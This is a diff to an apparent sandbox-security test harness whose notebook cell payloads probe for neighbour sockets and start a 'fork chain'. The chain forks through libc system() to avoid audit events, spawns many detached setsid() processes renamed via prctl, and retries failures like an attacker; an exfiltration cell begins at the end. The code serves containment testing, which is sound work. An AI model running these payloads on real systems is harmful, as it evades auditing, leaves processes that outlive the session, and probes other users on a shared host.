@@ -76,28 +76,43 @@ drive(2)
 print('neighbour sockets found:', len(found))
 """
 
-# The kernel forks through libc (no audit event) into a small Python that builds the chain
-# (forking the kernel itself 300 times takes long); each link calls setsid() and names
-# itself, so the test can find any that survive.
+# The kernel starts the chain through the C library's system(): a fork and exec in C, with
+# no audit event, that runs no Python in a copy of the multithreaded kernel (a copy that
+# ran Python could hang on a lock another kernel thread held). A single-threaded Python
+# then builds the chain (forking the kernel itself 300 times takes long); each link calls
+# setsid() and names itself, so the test can find any that survive. A fork that fails is
+# retried, as an attacker would; failures and errors go to CHAIN_LOG, which the last cell
+# prints, so a short chain says why.
+CHAIN_LOG = "fork-chain.log"
 FORK_CHAIN = f"""
-import ctypes, os, sys
+import ctypes, shlex, sys
 
 CHAIN = '''
 import ctypes
-libc = ctypes.PyDLL(None)  # keeps the GIL across fork(), so the child can run Python
-depth = 0
-while depth < {CHAIN_DEPTH}:
-    if libc.fork() != 0:  # the parent (or a failed fork) stops here; the child goes on
+libc = ctypes.CDLL(None, use_errno=True)
+fork = ctypes.PyDLL(None, use_errno=True).fork  # keeps the GIL across fork(): the child runs Python
+depth = failures = 0
+while depth < {CHAIN_DEPTH} and failures < 100:
+    pid = fork()
+    if pid > 0:  # the parent stops here; the child goes on
         break
+    if pid < 0:
+        failures += 1
+        with open('{CHAIN_LOG}', 'a') as log:
+            log.write('fork failed at depth %d: errno %d\\\\n' % (depth, ctypes.get_errno()))
+        libc.usleep(20000)
+        continue
     depth += 1
     libc.setsid()
     libc.prctl(15, b'{CHAIN_NAME}', 0, 0, 0)  # PR_SET_NAME
 while True:
     libc.sleep(1000)
 '''
-if ctypes.PyDLL(None).fork() == 0:
-    os.execv(sys.executable, [sys.executable, '-I', '-S', '-c', CHAIN])
-print('fork chain started')
+with open('fork_chain.py', 'w') as script:
+    script.write(CHAIN)
+command = f"{{shlex.quote(sys.executable)}} -I -S fork_chain.py 2>>{CHAIN_LOG} &"
+status = ctypes.CDLL(None).system(command.encode())
+print('fork chain started' if status == 0 else f'system() returned {{status}}')
 """
 
 # In the last cell: the chain has had the whole notebook's time to grow.
@@ -119,6 +134,8 @@ end = time.time() + 5
 while chain() < {CHAIN_DEPTH} and time.time() < end:
     time.sleep(0.1)
 print('fork chain:', chain())
+if os.path.exists('{CHAIN_LOG}') and os.path.getsize('{CHAIN_LOG}'):
+    print(open('{CHAIN_LOG}').read()[-1000:])
 """
 
 EXFILTRATE = """
